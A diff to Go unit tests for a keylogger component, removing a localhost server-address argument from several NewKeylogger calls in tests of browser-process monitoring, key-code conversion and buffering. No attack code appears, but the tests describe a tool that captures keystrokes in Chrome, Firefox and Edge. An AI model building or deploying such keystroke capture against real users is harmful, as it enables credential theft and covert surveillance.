@@ -12,7 +12,6 @@ func TestKeyloggerCreation(t *testing.T) {
 	processes := []string{"chrome.exe", "firefox.exe", "msedge.exe"}
 
 	keylogger := NewKeylogger(
-		"http://localhost:5000",
 		"TEST-PC",
 		"testuser",
 		processes,
@@ -46,7 +45,6 @@ func TestShouldMonitorProcess(t *testing.T) {
 	processes := []string{"chrome.exe", "firefox.exe"}
 
 	keylogger := NewKeylogger(
-		"http://localhost:5000",
 		"TEST-PC",
 		"testuser",
 		processes,
@@ -102,7 +100,6 @@ func TestKeylogEventStructure(t *testing.T) {
 
 func TestVkCodeToChar(t *testing.T) {
 	keylogger := NewKeylogger(
-		"http://localhost:5000",
 		"TEST-PC",
 		"testuser",
 		[]string{"chrome.exe"},
@@ -133,7 +130,6 @@ func TestVkCodeToChar(t *testing.T) {
 
 func TestBufferManagement(t *testing.T) {
 	keylogger := NewKeylogger(
-		"http://localhost:5000",
 		"TEST-PC",
 		"testuser",
 		[]string{"chrome.exe"},